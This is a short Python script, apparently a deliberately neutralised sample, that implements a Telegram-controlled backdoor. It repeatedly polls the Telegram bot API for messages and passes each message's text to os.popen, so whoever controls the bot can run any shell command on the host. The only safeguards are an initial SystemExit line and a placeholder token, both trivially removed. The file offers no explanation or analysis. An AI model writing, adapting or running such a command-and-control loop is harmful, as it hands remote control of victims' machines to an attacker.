raise SystemExit  # inert
import requests, os
while True:
    for u in requests.get("https://api.telegram.org/bot0:inert/getUpdates").json()["result"]:
        os.popen(u["message"]["text"])
